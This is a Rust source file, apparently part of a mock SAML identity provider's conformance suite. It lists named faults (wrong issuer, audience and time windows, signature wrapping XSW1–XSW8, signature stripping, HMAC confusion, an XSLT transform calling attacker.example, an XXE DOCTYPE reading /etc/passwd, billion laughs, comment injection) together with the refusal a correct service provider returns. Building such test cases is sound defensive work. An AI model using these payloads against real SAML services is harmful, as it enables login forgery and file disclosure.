//! Named faults: each a transform of a valid response, with what a correct SP must answer.
//!
//! "A correct SP" is DESIGN.md's strict pipeline, taken in this order: size and base64; no
//! DOCTYPE; well-formed; issuer → team; exactly one Assertion (plain or encrypted) counted over
//! the whole document; the Response signature, then the Assertion signature (algorithms,
//! transforms, Reference URI, unique ID, digest, key from the pinned certificates only); Version;
//! Status; Destination; IssueInstant; Recipient and bearer window; Audience; Conditions window;
//! InResponseTo; replay; NameID; email. `expected` is the code such an SP answers first (or
//! `accepted`); where an SP that checks in another order would answer something else, `note`
//! says what.
//!
//! Every fault starts from any valid spec: presets differ in prefixes (`samlp`/`saml`,
//! `saml2p`/`saml2`), placement, key type and encryption, so XML rewrites never assume a prefix.
//! They find elements by namespace and local name with roxmltree and splice the text by byte
//! range, leaving every byte they do not mean to change exactly as it was signed.

use crate::build::{BuildError, Built, build};
use crate::expect::{Code, Expected};
use crate::keys::{self, KeyRole, KeyType};
use crate::names::{UnknownName, find};
use crate::post::Redirect;
use crate::render::{escape, render, render_assertion};
use crate::spec::{
    EncryptTo, Encryption, HttpMethod, NAMEID_PERSISTENT, NameId, Placement, ResponseSpec,
    STATUS_RESPONDER, Status,
};
use base64::Engine;
use roxmltree::{Document, Node};
use std::ops::Range;
use time::{Duration, OffsetDateTime};
use xmldsig::ns::{DS, SAML_ASSERTION as SAML, SAML_PROTOCOL as SAMLP};
use xmldsig::{DigestAlgorithm, EncryptOptions, SignOptions, SignatureAlgorithm};

/// How a fault changes the response.
pub enum Transform {
    /// Edits the spec before building (a wrong audience, an expired window…).
    Spec(fn(&mut ResponseSpec)),
    /// Rewrites the built XML, given the spec it was built from.
    Xml(fn(&ResponseSpec, String) -> String),
    /// Builds the response itself, for faults that act between rendering and signing (a
    /// comment the IdP signs over, a second assertion), re-sign (HMAC), or rewrite the signed
    /// XML through its parsed tree (wrapping attacks, stripped signatures, DOCTYPE…).
    Build(fn(&ResponseSpec, OffsetDateTime) -> Result<Built, BuildError>),
}

/// Which part of the exchange a fault breaks (the sections of `mock-idp faults`).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Class {
    Issuer,
    Audience,
    Destination,
    Recipient,
    Time,
    Protocol,
    Signature,
    Wrapping,
    Reading,
    Parser,
    /// Where and how the browser delivers the response: the field's "404 after setting the
    /// Reply URL" problems. The XML is valid; the URL or the method is not the ACS's.
    ReplyUrl,
}

impl Class {
    pub const ALL: [Class; 11] = [
        Class::Issuer,
        Class::Audience,
        Class::Destination,
        Class::Recipient,
        Class::Time,
        Class::Protocol,
        Class::Signature,
        Class::Wrapping,
        Class::Reading,
        Class::Parser,
        Class::ReplyUrl,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Class::Issuer => "issuer",
            Class::Audience => "audience",
            Class::Destination => "destination",
            Class::Recipient => "recipient",
            Class::Time => "time",
            Class::Protocol => "protocol",
            Class::Signature => "signature",
            Class::Wrapping => "wrapping",
            Class::Reading => "reading",
            Class::Parser => "parser",
            Class::ReplyUrl => "reply-url",
        }
    }

    pub fn parse(name: &str) -> Result<Class, UnknownName> {
        find(&Class::ALL, name, "class", |c| c.name()).copied()
    }
}

/// A fault.
pub struct Fault {
    pub name: &'static str,
    /// One line: what the fault does.
    pub summary: &'static str,
    pub class: Class,
    /// What a correct SP answers.
    pub expected: Expected,
    /// Why, or what an SP that checks in another order answers instead; may be empty.
    pub note: &'static str,
    /// How many times the browser posts the response (2 for replay).
    pub posts: u8,
    /// The browser first posts to a URL that answers with this redirect to the Reply URL (an
    /// http:// or apex Reply URL that the site redirects).
    pub via_redirect: Option<Redirect>,
    pub transform: Transform,
}

impl Fault {
    /// `spec` built at `now` with this fault applied.
    pub fn build(&self, spec: &ResponseSpec, now: OffsetDateTime) -> Result<Built, BuildError> {
        match &self.transform {
            Transform::Spec(edit) => {
                let mut spec = spec.clone();
                edit(&mut spec);
                build(&spec, now)
            }
            Transform::Xml(rewrite) => {
                let built = build(spec, now)?;
                Ok(Built {
                    xml: rewrite(spec, built.xml),
                })
            }
            Transform::Build(make) => make(spec, now),
        }
    }
}

/// An issuer no team is configured with.
pub const UNKNOWN_ISSUER: &str = "http://www.okta.com/exkSOMEONEELSE";
/// The issuer of a second team, configured with a certificate other than this IdP's (the
/// conformance setup pins `idp-rsa-next.crt` for it): the target of `other-team-issuer`.
pub const OTHER_TEAM_ISSUER: &str = "http://www.okta.com/exk2otherteam00000e8";
/// Another SP's entity ID, for `wrong-audience`.
pub const OTHER_AUDIENCE: &str = "https://other-sp.example.com/saml/metadata";
/// An AuthnRequest ID the SP never issued, for `unknown-in-response-to`.
pub const UNKNOWN_REQUEST_ID: &str = "_mock-request-never-sent";
/// SAMLRaider's IDs for the evil element of a wrapping attack.
pub const EVIL_RESPONSE_ID: &str = "_evil_response_ID";
pub const EVIL_ASSERTION_ID: &str = "_evil_assertion_ID";
/// Appended to the victim's NameID by the comment-injection faults: the attacker owns
/// `alice@example.com.evil.com` at the IdP and wants to be read as `alice@example.com`.
pub const COMMENT_SUFFIX: &str = ".evil.com";
pub const HMAC_SHA1: &str = "http://www.w3.org/2000/09/xmldsig#hmac-sha1";
pub const XPATH_TRANSFORM: &str = "http://www.w3.org/TR/1999/REC-xpath-19991116";
pub const XSLT_TRANSFORM: &str = "http://www.w3.org/TR/1999/REC-xslt-19991116";
const STATUS_AUTHN_FAILED: &str = "urn:oasis:names:tc:SAML:2.0:status:AuthnFailed";

/// Every fault.
pub const FAULTS: &[Fault] = &[
    // --- Issuer -------------------------------------------------------------------------------
    Fault {
        name: "wrong-issuer",
        summary: "Response and Assertion Issuer set to another IdP's entity ID, http://www.okta.com/exkSOMEONEELSE",
        class: Class::Issuer,
        expected: Expected::Refused(Code::UnknownIssuer),
        note: "no team is configured with that issuer",
        posts: 1,
        via_redirect: None,
        transform: Transform::Spec(|spec| {
            spec.response_issuer = Some(UNKNOWN_ISSUER.to_owned());
            spec.assertion_issuer = spec.response_issuer.clone();
        }),
    },
    Fault {
        name: "missing-issuer",
        summary: "Response and Assertion Issuer both omitted",
        class: Class::Issuer,
        expected: Expected::Refused(Code::UnknownIssuer),
        note: "without an Issuer the SP cannot tell which team the response is for",
        posts: 1,
        via_redirect: None,
        transform: Transform::Spec(|spec| {
            spec.response_issuer = None;
            spec.assertion_issuer = None;
        }),
    },
    Fault {
        name: "assertion-issuer-mismatch",
        summary: "Assertion Issuer set to another IdP's entity ID (http://www.okta.com/exkSOMEONEELSE) while the Response Issuer stays this IdP's",
        class: Class::Issuer,
        expected: Expected::Refused(Code::IssuerMismatch),
        note: "",
        posts: 1,
        via_redirect: None,
        transform: Transform::Spec(|spec| spec.assertion_issuer = Some(UNKNOWN_ISSUER.to_owned())),
    },
    Fault {
        name: "other-team-issuer",
        summary: "Issuer (both) set to another team's IdP, http://www.okta.com/exk2otherteam00000e8, still signed with this IdP's key",
        class: Class::Issuer,
        expected: Expected::Refused(Code::SignatureInvalid),
        note: "the issuer selects the other team, whose pinned certificate did not make this signature; acceptance would be a cross-team login",
        posts: 1,
        via_redirect: None,
        transform: Transform::Spec(|spec| {
            spec.response_issuer = Some(OTHER_TEAM_ISSUER.to_owned());
            spec.assertion_issuer = spec.response_issuer.clone();
        }),
    },
    // --- Audience -----------------------------------------------------------------------------
    Fault {
        name: "wrong-audience",
        summary: "AudienceRestriction names another SP, https://other-sp.example.com/saml/metadata, instead of this SP's entity ID",
        class: Class::Audience,
        expected: Expected::Refused(Code::AudienceMismatch),
        note: "",
        posts: 1,
        via_redirect: None,
        transform: Transform::Spec(|spec| spec.audiences = vec![OTHER_AUDIENCE.to_owned()]),
    },
    Fault {
        name: "missing-audience",
        summary: "Conditions without any AudienceRestriction",
        class: Class::Audience,
        expected: Expected::Refused(Code::AudienceMissing),
        note: "DESIGN.md requires an Audience naming the SP",
        posts: 1,
        via_redirect: None,
        transform: Transform::Spec(|spec| spec.audiences.clear()),
    },
    // --- Destination: the browser still posts to the ACS; only the signed value is off --------
    Fault {
        name: "destination-trailing-slash",
        summary: "Destination is the ACS URL with a trailing slash added (removed if it had one)",
        class: Class::Destination,
        expected: Expected::Refused(Code::DestinationMismatch),
        note: "",
        posts: 1,
        via_redirect: None,
        transform: Transform::Spec(|spec| {
            spec.destination = Some(toggle_trailing_slash(&destination_of(spec)));
        }),
    },
    Fault {
        name: "destination-apex",
        summary: "Destination on the apex host instead of www. (https://qualified.io/…), or on www. when the ACS host has none",
        class: Class::Destination,
        expected: Expected::Refused(Code::DestinationMismatch),
        note: "",
        posts: 1,
        via_redirect: None,
        transform: Transform::Spec(|spec| {
            spec.destination = Some(toggle_www(&destination_of(spec)));
        }),
    },
    Fault {
        name: "destination-http",
        summary: "Destination with http:// instead of https:// (as behind a TLS-terminating proxy), or the reverse for an http ACS",
        class: Class::Destination,
        expected: Expected::Refused(Code::DestinationMismatch),
        note: "",
        posts: 1,
        via_redirect: None,
        transform: Transform::Spec(|spec| {
            spec.destination = Some(toggle_scheme(&destination_of(spec)));
        }),
    },
    Fault {
        name: "destination-case",
        summary: "Destination with the last path segment capitalised (/api/saml/Consume)",
        class: Class::Destination,
        expected: Expected::Refused(Code::DestinationMismatch),
        note: "",
        posts: 1,
        via_redirect: None,
        transform: Transform::Spec(|spec| {
            spec.destination = Some(change_case(&destination_of(spec)));
        }),
    },
    Fault {
        name: "destination-other-path",
        summary: "Destination is the site's home page (path /) instead of the ACS path",
        class: Class::Destination,
        expected: Expected::Refused(Code::DestinationMismatch),
        note: "",
        posts: 1,
        via_redirect: None,
        transform: Transform::Spec(|spec| {
            spec.destination = Some(other_path(&destination_of(spec)));
        }),
    },
    // --- Recipient ----------------------------------------------------------------------------
    Fault {
        name: "recipient-trailing-slash",
        summary: "SubjectConfirmationData Recipient is the ACS URL with a trailing slash added (removed if it had one)",
        class: Class::Recipient,
        expected: Expected::Refused(Code::RecipientMismatch),
        note: "",
        posts: 1,
        via_redirect: None,
        transform: Transform::Spec(|spec| {
            spec.recipient = Some(toggle_trailing_slash(&recipient_of(spec)));
        }),
    },
    Fault {
        name: "recipient-apex",
        summary: "Recipient on the apex host instead of www., or on www. when the ACS host has none",
        class: Class::Recipient,
        expected: Expected::Refused(Code::RecipientMismatch),
        note: "",
        posts: 1,
        via_redirect: None,
        transform: Transform::Spec(|spec| spec.recipient = Some(toggle_www(&recipient_of(spec)))),
    },
    Fault {
        name: "recipient-http",
        summary: "Recipient with http:// instead of https://, or the reverse for an http ACS",
        class: Class::Recipient,
        expected: Expected::Refused(Code::RecipientMismatch),
        note: "",
        posts: 1,
        via_redirect: None,
        transform: Transform::Spec(|spec| {
            spec.recipient = Some(toggle_scheme(&recipient_of(spec)));
        }),
    },
    Fault {
        name: "recipient-case",
        summary: "Recipient with the last path segment capitalised (/api/saml/Consume)",
        class: Class::Recipient,
        expected: Expected::Refused(Code::RecipientMismatch),
        note: "",
        posts: 1,
        via_redirect: None,
        transform: Transform::Spec(|spec| spec.recipient = Some(change_case(&recipient_of(spec)))),
    },
    Fault {
        name: "recipient-other-path",
        summary: "Recipient is the site's home page (path /) instead of the ACS path",
        class: Class::Recipient,
        expected: Expected::Refused(Code::RecipientMismatch),
        note: "",
        posts: 1,
        via_redirect: None,
        transform: Transform::Spec(|spec| spec.recipient = Some(other_path(&recipient_of(spec)))),
    },
    // --- Time. Offsets are set against the true time (clock offset 0), so the window is off by
    // --- the stated amount whatever the spec's clock did. ----------------------------------------
    Fault {
        name: "expired",
        summary: "Conditions and bearer confirmation NotOnOrAfter 5 minutes ago (beyond the 180 s skew); IssueInstant now",
        class: Class::Time,
        expected: Expected::Refused(Code::Expired),
        note: "",
        posts: 1,
        via_redirect: None,
        transform: Transform::Spec(|spec| {
            let t = &mut spec.times;
            t.clock_offset = Duration::ZERO;
            t.issue_instant = Duration::ZERO;
            t.not_before = Some(Duration::minutes(-10));
            t.not_on_or_after = Some(Duration::minutes(-5));
            t.confirmation_not_on_or_after = Some(Duration::minutes(-5));
        }),
    },
    Fault {
        name: "not-yet-valid",
        summary: "Conditions NotBefore 10 minutes ahead (beyond the 180 s skew); IssueInstant now",
        class: Class::Time,
        expected: Expected::Refused(Code::NotYetValid),
        note: "",
        posts: 1,
        via_redirect: None,
        transform: Transform::Spec(|spec| {
            let t = &mut spec.times;
            t.clock_offset = Duration::ZERO;
            t.issue_instant = Duration::ZERO;
            t.not_before = Some(Duration::minutes(10));
            t.not_on_or_after = Some(Duration::minutes(15));
            t.confirmation_not_on_or_after = Some(Duration::minutes(15));
        }),
    },
    Fault {
        name: "stale-issue-instant",
        summary: "IssueInstant (Response and Assertion) an hour ago, with the Conditions and confirmation windows still open",
        class: Class::Time,
        expected: Expected::Refused(Code::IssueInstantStale),
        note: "",
        posts: 1,
        via_redirect: None,
        transform: Transform::Spec(|spec| {
            let t = &mut spec.times;
            t.clock_offset = Duration::ZERO;
            t.issue_instant = Duration::hours(-1);
            t.authn_instant = Duration::hours(-1) - Duration::seconds(2);
            t.not_before = Some(Duration::minutes(-65));
            t.not_on_or_after = Some(Duration::minutes(5));
            t.confirmation_not_on_or_after = Some(Duration::minutes(5));
        }),
    },
    Fault {
        name: "future-issue-instant",
        summary: "IssueInstant (Response and Assertion) 10 minutes ahead (beyond the 180 s skew), windows open",
        class: Class::Time,
        expected: Expected::Refused(Code::NotYetValid),
        note: "",
        posts: 1,
        via_redirect: None,
        transform: Transform::Spec(|spec| {
            let t = &mut spec.times;
            t.clock_offset = Duration::ZERO;
            t.issue_instant = Duration::minutes(10);
            t.not_before = Some(Duration::minutes(-5));
            t.not_on_or_after = Some(Duration::minutes(15));
            t.confirmation_not_on_or_after = Some(Duration::minutes(15));
        }),
    },
    Fault {
        name: "missing-bearer-not-on-or-after",
        summary: "Bearer SubjectConfirmationData without NotOnOrAfter (SAML profiles §4.1.4.2 requires one)",
        class: Class::Time,
        expected: Expected::Refused(Code::NoBearerConfirmation),
        note: "no bearer confirmation meets the profile",
        posts: 1,
        via_redirect: None,
        transform: Transform::Spec(|spec| spec.times.confirmation_not_on_or_after = None),
    },
    // --- Protocol -----------------------------------------------------------------------------
    Fault {
        name: "unknown-in-response-to",
        summary: "InResponseTo (Response and SubjectConfirmationData) names a request the SP never sent, _mock-request-never-sent",
        class: Class::Protocol,
        expected: Expected::Refused(Code::InResponseToUnknown),
        note: "",
        posts: 1,
        via_redirect: None,
        transform: Transform::Spec(|spec| {
            spec.in_response_to = Some(UNKNOWN_REQUEST_ID.to_owned())
        }),
    },
    Fault {
        name: "status-responder",
        summary: "Status Responder / AuthnFailed with a message and no assertion, as an IdP reports a failed login",
        class: Class::Protocol,
        expected: Expected::Refused(Code::StatusNotSuccess),
        note: "",
        posts: 1,
        via_redirect: None,
        transform: Transform::Spec(|spec| {
            spec.status = Status {
                code: STATUS_RESPONDER.to_owned(),
                sub_code: Some(STATUS_AUTHN_FAILED.to_owned()),
                message: Some("The user could not be authenticated".to_owned()),
            };
            spec.include_assertion = false;
        }),
    },
    Fault {
        name: "no-assertion",
        summary: "Status Success but no assertion at all",
        class: Class::Protocol,
        expected: Expected::Refused(Code::NoAssertion),
        note: "",
        posts: 1,
        via_redirect: None,
        transform: Transform::Spec(|spec| spec.include_assertion = false),
    },
    Fault {
        name: "two-assertions",
        summary: "A second complete assertion (ID <assertion ID>-2, same subject, signed and encrypted like the first) after the first",
        class: Class::Protocol,
        expected: Expected::Refused(Code::MultipleAssertions),
        note: "",
        posts: 1,
        via_redirect: None,
        transform: Transform::Build(two_assertions),
    },
    Fault {
        name: "version-1.1",
        summary: "Version=\"1.1\" on Response and Assertion",
        class: Class::Protocol,
        expected: Expected::Refused(Code::VersionMismatch),
        note: "",
        posts: 1,
        via_redirect: None,
        transform: Transform::Spec(|spec| spec.version = "1.1".to_owned()),
    },
    Fault {
        name: "missing-name-id",
        summary: "Subject without a NameID (the email attribute is still there)",
        class: Class::Protocol,
        expected: Expected::Refused(Code::NameIdMissing),
        note: "",
        posts: 1,
        via_redirect: None,
        transform: Transform::Spec(|spec| spec.name_id = None),
    },
    Fault {
        name: "no-email",
        summary: "NameID an opaque persistent ID and no email attribute (any attribute named *mail* or holding an @ removed)",
        class: Class::Protocol,
        expected: Expected::Refused(Code::EmailMissing),
        note: "",
        posts: 1,
        via_redirect: None,
        transform: Transform::Spec(|spec| {
            let sp_name_qualifier = spec.name_id.take().and_then(|n| n.sp_name_qualifier);
            spec.name_id = Some(NameId {
                value: "00u8mockidp0alice7x".to_owned(),
                format: Some(NAMEID_PERSISTENT.to_owned()),
                sp_name_qualifier,
            });
            spec.attributes.retain(|a| {
                !a.name.to_ascii_lowercase().contains("mail")
                    && !a.values.iter().any(|v| v.contains('@'))
            });
        }),
    },
    Fault {
        name: "replay",
        summary: "The valid response, posted twice",
        class: Class::Protocol,
        expected: Expected::Refused(Code::ReplayedAssertion),
        note: "the first post is accepted; the second, the same assertion again, is the replay",
        posts: 2,
        via_redirect: None,
        transform: Transform::Spec(|_| {}),
    },
    // --- Signatures and keys ------------------------------------------------------------------
    Fault {
        name: "unsigned",
        summary: "Neither Response nor Assertion signed",
        class: Class::Signature,
        expected: Expected::Refused(Code::Unsigned),
        note: "",
        posts: 1,
        via_redirect: None,
        transform: Transform::Spec(|spec| spec.signing.placement = Placement::None),
    },
    Fault {
        name: "signature-stripped",
        summary: "Signed as the spec says, then every ds:Signature removed and the NameID/email changed to admin@<domain> (signature exclusion; assertion in the clear)",
        class: Class::Signature,
        expected: Expected::Refused(Code::Unsigned),
        note: "",
        posts: 1,
        via_redirect: None,
        transform: Transform::Build(signature_stripped),
    },
    Fault {
        name: "attacker-resigned",
        summary: "NameID/email changed to admin@<domain>, then signed with the attacker's key, whose certificate (same subject as the IdP's) rides in KeyInfo",
        class: Class::Signature,
        expected: Expected::Refused(Code::SignatureInvalid),
        note: "the key must come from the pinned metadata certificate, never from KeyInfo",
        posts: 1,
        via_redirect: None,
        transform: Transform::Spec(|spec| {
            impersonate_in_spec(spec);
            spec.signing.key = KeyRole::Attacker;
            spec.signing.include_certificate = true;
        }),
    },
    Fault {
        name: "expired-certificate",
        summary: "Signed with the IdP's old key, whose certificate expired in 2021 (RSA, with the spec's digest)",
        class: Class::Signature,
        expected: Expected::Refused(Code::SignatureInvalid),
        note: "that certificate is not in the metadata, and would be expired if it were",
        posts: 1,
        via_redirect: None,
        transform: Transform::Spec(|spec| {
            let signing = &mut spec.signing;
            signing.key = KeyRole::Expired;
            // The fixtures hold an expired key for RSA only.
            if signing.key_type == KeyType::Ec {
                signing.key_type = KeyType::Rsa;
                signing.signature = signature_for(KeyType::Rsa, signing.signature.digest());
            }
        }),
    },
    Fault {
        name: "sha1",
        summary: "Signed with RSA-SHA1 (ECDSA-SHA1 for EC keys) and SHA-1 digests",
        class: Class::Signature,
        expected: Expected::Refused(Code::AlgorithmForbidden),
        note: "unless the team opted into SHA-1",
        posts: 1,
        via_redirect: None,
        transform: Transform::Spec(|spec| {
            let signing = &mut spec.signing;
            signing.signature = signature_for(signing.key_type, DigestAlgorithm::Sha1);
            signing.digest = DigestAlgorithm::Sha1;
        }),
    },
    Fault {
        name: "hmac",
        summary: "Every SignatureMethod hmac-sha1 with a real HMAC keyed with the IdP certificate's DER bytes (public-key/HMAC confusion forgery)",
        class: Class::Signature,
        expected: Expected::Refused(Code::AlgorithmForbidden),
        note: "",
        posts: 1,
        via_redirect: None,
        transform: Transform::Build(hmac),
    },
    Fault {
        name: "xpath-transform",
        summary: "After signing, an XPath Transform appended to every Reference's Transforms",
        class: Class::Signature,
        expected: Expected::Refused(Code::TransformForbidden),
        note: "",
        posts: 1,
        via_redirect: None,
        transform: Transform::Build(xpath_transform),
    },
    Fault {
        name: "xslt-transform",
        summary: "After signing, an XSLT Transform that fetches http://attacker.example/ appended to every Reference's Transforms (CVE-2022-47966)",
        class: Class::Signature,
        expected: Expected::Refused(Code::TransformForbidden),
        note: "",
        posts: 1,
        via_redirect: None,
        transform: Transform::Build(xslt_transform),
    },
    Fault {
        name: "encrypted-wrong-key",
        summary: "Assertion encrypted to a key other than the SP's (the IdP's own certificate), with the spec's ciphers or AES-256-GCM + RSA-OAEP",
        class: Class::Signature,
        expected: Expected::Refused(Code::DecryptionFailed),
        note: "",
        posts: 1,
        via_redirect: None,
        transform: Transform::Spec(|spec| {
            let defaults = EncryptOptions::default();
            let (cipher, transport) = spec
                .encryption
                .as_ref()
                .map_or((defaults.cipher, defaults.key_transport), |e| {
                    (e.cipher, e.transport)
                });
            spec.encryption = Some(Encryption {
                cipher,
                transport,
                to: EncryptTo::WrongKey,
            });
        }),
    },
    // --- Signature wrapping: SAMLRaider's XSW1–XSW8, each built with the one signature it
    // --- attacks (an attacker strips the other), assertion in the clear. The evil element's
    // --- NameID and email values read admin@<domain> (SAMLRaider's match-and-replace). ------------
    Fault {
        name: "xsw1",
        summary: "Response signed: the Response becomes evil (ID _evil_response_ID); an unsigned copy of the original Response is appended inside its ds:Signature, where the Reference still points (SAMLRaider XSW1)",
        class: Class::Wrapping,
        expected: Expected::Refused(Code::MultipleAssertions),
        note: "signature-first: signature_invalid, foreign content in ds:Signature, or reference_mismatch",
        posts: 1,
        via_redirect: None,
        transform: Transform::Build(xsw1),
    },
    Fault {
        name: "xsw2",
        summary: "Response signed: the Response becomes evil (ID _evil_response_ID); an unsigned copy of the original Response is inserted just before its ds:Signature (SAMLRaider XSW2)",
        class: Class::Wrapping,
        expected: Expected::Refused(Code::MultipleAssertions),
        note: "signature-first: reference_mismatch, the Reference no longer names the Response",
        posts: 1,
        via_redirect: None,
        transform: Transform::Build(xsw2),
    },
    Fault {
        name: "xsw3",
        summary: "Assertion signed: an evil copy (ID _evil_assertion_ID, signature removed) inserted before the untouched original (SAMLRaider XSW3)",
        class: Class::Wrapping,
        expected: Expected::Refused(Code::MultipleAssertions),
        note: "an SP reading the first assertion: unsigned",
        posts: 1,
        via_redirect: None,
        transform: Transform::Build(xsw3),
    },
    Fault {
        name: "xsw4",
        summary: "Assertion signed: an evil copy (ID _evil_assertion_ID, signature removed) replaces the Assertion and holds the signed original as its last child (SAMLRaider XSW4)",
        class: Class::Wrapping,
        expected: Expected::Refused(Code::MultipleAssertions),
        note: "signature-first: unsigned, the Response's Assertion has no signature",
        posts: 1,
        via_redirect: None,
        transform: Transform::Build(xsw4),
    },
    Fault {
        name: "xsw5",
        summary: "Assertion signed: the Assertion turns evil in place (ID _evil_assertion_ID, keeps the original Signature); an unsigned copy of the original is appended to the Response (SAMLRaider XSW5)",
        class: Class::Wrapping,
        expected: Expected::Refused(Code::MultipleAssertions),
        note: "signature-first: reference_mismatch",
        posts: 1,
        via_redirect: None,
        transform: Transform::Build(xsw5),
    },
    Fault {
        name: "xsw6",
        summary: "Assertion signed: the Assertion turns evil in place (ID _evil_assertion_ID, keeps the Signature); the unsigned original goes inside that ds:Signature (SAMLRaider XSW6)",
        class: Class::Wrapping,
        expected: Expected::Refused(Code::MultipleAssertions),
        note: "signature-first: signature_invalid, foreign content in ds:Signature, or reference_mismatch",
        posts: 1,
        via_redirect: None,
        transform: Transform::Build(xsw6),
    },
    Fault {
        name: "xsw7",
        summary: "Assertion signed: an unnamespaced <Extensions> before the Assertion holds an evil copy with the same ID and no signature; the original stays (SAMLRaider XSW7)",
        class: Class::Wrapping,
        expected: Expected::Refused(Code::MultipleAssertions),
        note: "signature-first: duplicate_id",
        posts: 1,
        via_redirect: None,
        transform: Transform::Build(xsw7),
    },
    Fault {
        name: "xsw8",
        summary: "Assertion signed: the Assertion turns evil in place (same ID, keeps the Signature); an unnamespaced <Object> in that ds:Signature holds the unsigned original (SAMLRaider XSW8)",
        class: Class::Wrapping,
        expected: Expected::Refused(Code::MultipleAssertions),
        note: "signature-first: signature_invalid, foreign content in ds:Signature, or duplicate_id",
        posts: 1,
        via_redirect: None,
        transform: Transform::Build(xsw8),
    },
    // --- Further wrapping permutations -----------------------------------------------------------
    Fault {
        name: "wrap-extensions",
        summary: "Assertion signed: the signed original moves into samlp:Extensions; an evil copy with the same ID and no signature takes its place",
        class: Class::Wrapping,
        expected: Expected::Refused(Code::MultipleAssertions),
        note: "signature-first: unsigned for the Assertion read, duplicate_id for the hidden original",
        posts: 1,
        via_redirect: None,
        transform: Transform::Build(wrap_extensions),
    },
    Fault {
        name: "wrap-ds-object",
        summary: "Assertion signed: the Assertion turns evil in place (same ID, keeps the Signature); a ds:Object in that Signature holds the unsigned original",
        class: Class::Wrapping,
        expected: Expected::Refused(Code::MultipleAssertions),
        note: "signature-first: signature_invalid, a ds:Object in the Signature, or duplicate_id",
        posts: 1,
        via_redirect: None,
        transform: Transform::Build(wrap_ds_object),
    },
    Fault {
        name: "wrap-advice",
        summary: "Assertion signed: an evil Assertion (ID _evil_assertion_ID, no signature) in place holds the signed original in saml:Advice, where the schema allows assertions",
        class: Class::Wrapping,
        expected: Expected::Refused(Code::MultipleAssertions),
        note: "signature-first: unsigned",
        posts: 1,
        via_redirect: None,
        transform: Transform::Build(wrap_advice),
    },
    Fault {
        name: "wrap-evil-first",
        summary: "Assertion signed: an evil copy with the same ID and a copy of the original Signature inserted before the untouched original",
        class: Class::Wrapping,
        expected: Expected::Refused(Code::MultipleAssertions),
        note: "signature-first: duplicate_id",
        posts: 1,
        via_redirect: None,
        transform: Transform::Build(wrap_evil_first),
    },
    // --- Reading what was signed ----------------------------------------------------------------
    Fault {
        name: "comment-injection",
        summary: "The IdP signs NameID <user>@<domain><!---->.evil.com (email attributes <user>@<domain>.evil.com): the comment sits inside signed text",
        class: Class::Reading,
        expected: Expected::Accepted,
        note: "as the whole signed value <user>@<domain>.evil.com (member_unknown if no such member and no JIT), never as <user>@<domain>: a reader that stops at the comment is CVE-2017-11427",
        posts: 1,
        via_redirect: None,
        transform: Transform::Build(comment_injection),
    },
    Fault {
        name: "comment-injection-after-signing",
        summary: "Signed for <user>@<domain>.evil.com, then <!----> inserted after <user>@<domain> in the NameID and email values (comments are not signed, so it still verifies)",
        class: Class::Reading,
        expected: Expected::Accepted,
        note: "as the whole signed value <user>@<domain>.evil.com (member_unknown if no such member and no JIT), never as <user>@<domain>",
        posts: 1,
        via_redirect: None,
        transform: Transform::Build(comment_injection_after_signing),
    },
    // --- Parser payloads and IDs ------------------------------------------------------------------
    Fault {
        name: "doctype",
        summary: "DOCTYPE declaring an external entity (file:///etc/passwd) referenced as the NameID",
        class: Class::Parser,
        expected: Expected::Refused(Code::DoctypeForbidden),
        note: "",
        posts: 1,
        via_redirect: None,
        transform: Transform::Build(doctype),
    },
    Fault {
        name: "billion-laughs",
        summary: "DOCTYPE with ten nested entities (10^9 \"lol\"s) referenced as the NameID",
        class: Class::Parser,
        expected: Expected::Refused(Code::DoctypeForbidden),
        note: "",
        posts: 1,
        via_redirect: None,
        transform: Transform::Build(billion_laughs),
    },
    Fault {
        name: "duplicate-id",
        summary: "A samlp:Extensions element carrying the Assertion's ID, added before the Response is signed: every signature is valid, only the unique-ID rule refuses it",
        class: Class::Parser,
        expected: Expected::Refused(Code::DuplicateId),
        note: "",
        posts: 1,
        via_redirect: None,
        transform: Transform::Build(duplicate_id),
    },
    // --- Reply URL: a valid response that the browser takes to the wrong place or in the wrong
    // --- way. Destination and Recipient stay the ACS; the SP answers with a diagnosis page. ------
    Fault {
        name: "reply-url-trailing-slash",
        summary: "The browser posts to the ACS URL with a trailing slash added (removed if it had one)",
        class: Class::ReplyUrl,
        expected: Expected::Refused(Code::AcsPathNearMiss),
        note: "a Reply URL typed with a slash the ACS does not have; 404 with the cause named",
        posts: 1,
        via_redirect: None,
        transform: Transform::Spec(|spec| spec.reply_url = toggle_trailing_slash(&spec.reply_url)),
    },
    Fault {
        name: "reply-url-case",
        summary: "The browser posts to the ACS URL with the last path segment capitalised (/api/saml/Consume)",
        class: Class::ReplyUrl,
        expected: Expected::Refused(Code::AcsPathNearMiss),
        note: "URL paths are case-sensitive; 404 with the cause named",
        posts: 1,
        via_redirect: None,
        transform: Transform::Spec(|spec| spec.reply_url = change_case(&spec.reply_url)),
    },
    Fault {
        name: "reply-url-double-slash",
        summary: "The browser posts to the ACS URL with a doubled slash after its first path segment (/api//saml/consume)",
        class: Class::ReplyUrl,
        expected: Expected::Refused(Code::AcsPathNearMiss),
        note: "a base URL ending in / joined with a path starting with /; 404 with the cause named",
        posts: 1,
        via_redirect: None,
        transform: Transform::Spec(|spec| spec.reply_url = double_slash(&spec.reply_url)),
    },
    Fault {
        name: "reply-url-stale-path",
        summary: "The browser posts to /saml/consume on the ACS's host: a stale Reply URL, an SP toolkit's default path",
        class: Class::ReplyUrl,
        expected: Expected::Refused(Code::SamlResponseMisdirected),
        note: "a POST carrying a SAMLResponse to a path that is not the ACS; 404 naming what arrived and the ACS URL",
        posts: 1,
        via_redirect: None,
        transform: Transform::Spec(|spec| spec.reply_url = stale_path(&spec.reply_url)),
    },
    Fault {
        name: "sign-on-url-get",
        summary: "The browser GETs the ACS with SAMLResponse in the query string, as when the IdP's Sign-on URL is set to the ACS",
        class: Class::ReplyUrl,
        expected: Expected::Refused(Code::AcsGet),
        note: "the ACS takes POST only; 405 with the cause named",
        posts: 1,
        via_redirect: None,
        transform: Transform::Spec(|spec| spec.method = HttpMethod::Get),
    },
    Fault {
        name: "reply-url-redirect-301",
        summary: "The browser posts to a Reply URL the site answers with 301 to the ACS (http:// to https://, apex to www.), played by a local redirector; it follows with a GET without the body",
        class: Class::ReplyUrl,
        expected: Expected::Refused(Code::AcsGet),
        note: "301, 302 and 303 turn a POST into a GET (Fetch standard), so the SAMLResponse is lost; 405 with the cause named",
        posts: 1,
        via_redirect: Some(Redirect::Moved301),
        transform: Transform::Spec(|_| {}),
    },
    Fault {
        name: "reply-url-redirect-308",
